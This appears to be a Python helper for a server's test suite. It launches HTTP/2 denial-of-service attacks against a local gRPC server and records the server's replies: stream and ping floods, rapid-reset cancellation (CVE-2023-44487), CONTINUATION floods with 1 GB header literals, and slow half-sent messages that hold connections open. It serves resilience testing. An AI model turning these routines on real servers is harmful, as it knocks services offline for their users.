"""Attacks on a server, each in a process of its own beside the test:

  flood.py PORT ATTACK COUNT

Prints one line of JSON: what it sent and how the server took it. `hoard` then
holds what it has until its input ends.
"""

import json
import select
import socket
import struct
import subprocess
import sys
import threading
import time

import h2_client
import http2
import wire

MEGABYTE = 1 << 20


def start(test, port, attack, number):
    """The process of an attack, which ends with the test."""
    process = subprocess.Popen(
        [sys.executable, __file__, str(port), attack, str(number)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    test.addCleanup(process.stdout.close)
    test.addCleanup(process.wait)
    test.addCleanup(process.kill)
    test.addCleanup(process.stdin.close)
    return process


def has_reported(process):
    """Whether the process has printed its line, or ended."""
    return bool(select.select([process.stdout], [], [], 0)[0])


def count(server, kinds):
    """Has kinds[(kind, code)] count what the server says."""
    def on_frame(kind, _, __, payload):
        code = 0
        if kind in (http2.RST_STREAM, http2.GOAWAY):
            code = int.from_bytes(payload[-4:] if kind == http2.RST_STREAM
                                  else payload[4:8], "big")
        kinds[kind, code] = kinds.get((kind, code), 0) + 1
    server.read(on_frame)


def connect(port, kinds, source="127.0.0.1"):
    connection = http2.Connection(socket.create_connection(
        ("127.0.0.1", port), source_address=(source, 0)))
    connection.send_raw(http2.PREFACE)
    connection.send_settings()
    connection.reader = threading.Thread(
        target=count, args=(connection, kinds), daemon=True)
    connection.reader.start()
    return connection


REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def headers(path):
    return [(":method", "POST"), (":scheme", "http"), (":path", path),
            (":authority", "flood"), ("te", "trailers"),
            ("content-type", "application/grpc"), ("grpc-timeout", "60S")]


BODY = wire.frame(wire.overview_request())


def call_frames(connection, stream):
    """A whole call, as bytes: with no dynamic table, it can be sent again
    with another stream's number."""
    with connection._lock:
        connection._encoder.header_table_size = 0
        block = connection._encoder.encode(headers(h2_client.OVERVIEW),
                                           huffman=False)
    return (http2.pack(http2.HEADERS, http2.END_HEADERS, stream, block),
            http2.pack(http2.DATA, http2.END_STREAM, stream, BODY))


def reset_frames(connection, stream):
    """A whole call, and its cancellation."""
    cancel = http2.pack(http2.RST_STREAM, 0, stream,
                        struct.pack(">I", http2.CANCEL))
    return b"".join(call_frames(connection, stream)) + cancel


def streams(port, number):
    """That many calls on one connection that nobody waits for."""
    kinds = {}
    connection = connect(port, kinds)
    sent = 0
    try:
        for i in range(number):
            connection.send_raw(
                b"".join(call_frames(connection, 2 * i + 1)))
            sent += 1
    except OSError:
        pass
    return sent, kinds, connection


def pings(port, number):
    kinds = {}
    connection = connect(port, kinds)
    batch = http2.pack(http2.PING, 0, 0, b"12345678") * 100
    sent = 0
    try:
        for _ in range(number // 100):
            connection.send_raw(batch)
            sent += 100
    except OSError:
        pass
    # All of it may be sent before the server has read enough to object.
    connection.reader.join(timeout=10)
    return sent, kinds, connection


def resets(port, number):
    """Calls that are cancelled as soon as they are made (CVE-2023-44487),
    with a new connection where the server ends the old."""
    kinds = {}
    sent = 0
    connection = connect(port, kinds)
    stream = 1
    while sent < number:
        try:
            connection.send_raw(reset_frames(connection, stream))
            sent += 1
            stream += 2
        except OSError:
            connection = connect(port, kinds)
            stream = 1
    return sent, kinds, connection


def burst(port, number, path):
    """Calls of `path` that are cancelled as soon as they are made, all on one
    connection and as fast as it takes them."""
    kinds = {}
    connection = connect(port, kinds)
    # With no dynamic table the same bytes do for each.
    connection._encoder.header_table_size = 0
    block = connection._encoder.encode(headers(path), huffman=False)
    cancel = struct.pack(">I", http2.CANCEL)
    sent = 0
    try:
        for first in range(1, 2 * number, 1000):
            connection.send_raw(b"".join(
                http2.pack(http2.HEADERS, http2.END_HEADERS, stream, block) +
                http2.pack(http2.DATA, 0, stream, BODY) +
                http2.pack(http2.RST_STREAM, 0, stream, cancel)
                for stream in range(first, first + 1000, 2)))
            sent += 500
    except OSError:
        pass
    return sent, kinds, connection


def unknown(port, number):
    return burst(port, number, "/no.Such/Method")


def overviews(port, number):
    return burst(port, number, h2_client.OVERVIEW)


def reflection(port, number):
    return burst(port, number, REFLECTION)


def giant(port, seconds):
    """Header literals of 1 GB in CONTINUATION frames, for so many seconds on
    two connections, each made anew where the server ends it."""
    begin = http2.pack(http2.HEADERS, 0, 1, b"\0\x01a" + hpack_length(1 << 30))
    more = http2.pack(http2.CONTINUATION, 0, 1, b"a" * http2.MAX_FRAME)
    return from_two_threads(port, seconds, begin, more * 4, 4)


def pings_again(port, seconds):
    """A ping flood for so many seconds on two connections, the same way."""
    return from_two_threads(
        port, seconds, b"",
        http2.pack(http2.PING, 0, 0, b"12345678") * 1000, 1000)


def from_two_threads(port, seconds, begin, more, frames):
    kinds, sent = {}, [0, 0]
    end = time.monotonic() + seconds

    def run(thread):
        while time.monotonic() < end:
            try:
                connection = connect(port, kinds)
                connection.send_raw(begin)
                while time.monotonic() < end:
                    connection.send_raw(more)
                    sent[thread] += frames
            except OSError:
                pass
    threads = [threading.Thread(target=run, args=(i,)) for i in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(sent), kinds, None


def hpack_length(number):
    """An integer with a prefix of 7 bits."""
    return b"\x7f" + wire.varint(number - 127)


def hoard(port, number):
    """Connections that each send half a message of 8 MB, and wait."""
    kinds = {}
    connections = []
    for _ in range(number):
        connection = connect(port, kinds)
        connections.append(connection)
        connection.send_raw(call_frames(connection, 1)[0])
        threading.Thread(target=connection.send_data, args=(
            1, struct.pack(">BI", 0, 8 * MEGABYTE) + bytes(4 * MEGABYTE)),
            daemon=True).start()
    return number, kinds, connections


def halves(port, number):
    """Calls with half a message of 40 KB each, 100 on a connection, all from an
    address of their own. Those that are ended are not made again."""
    kinds = {}
    connections = []
    for _ in range(number // 100):
        connection = connect(port, kinds, "127.0.0.2")
        connections.append(connection)
        headers, _ = call_frames(connection, 0)
        half = struct.pack(">BI", 0, 40_000) + bytes(http2.MAX_FRAME - 5)
        # As much as the connection's window takes.
        for i, stream in enumerate(range(1, 200, 2)):
            connection.send_raw(
                http2.pack(http2.HEADERS, http2.END_HEADERS, stream,
                           headers[9:]) +
                http2.pack(http2.DATA, 0, stream, half if i < 3 else half[:6]))
    time.sleep(8)
    return number, kinds, connections


def main():
    port, attack, number = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    sent, kinds, _held = globals()[attack](port, number)
    answers = {f"{kind}:{code}": n for (kind, code), n in kinds.items()}
    print(json.dumps({"sent": sent, "answers": answers}), flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    main()
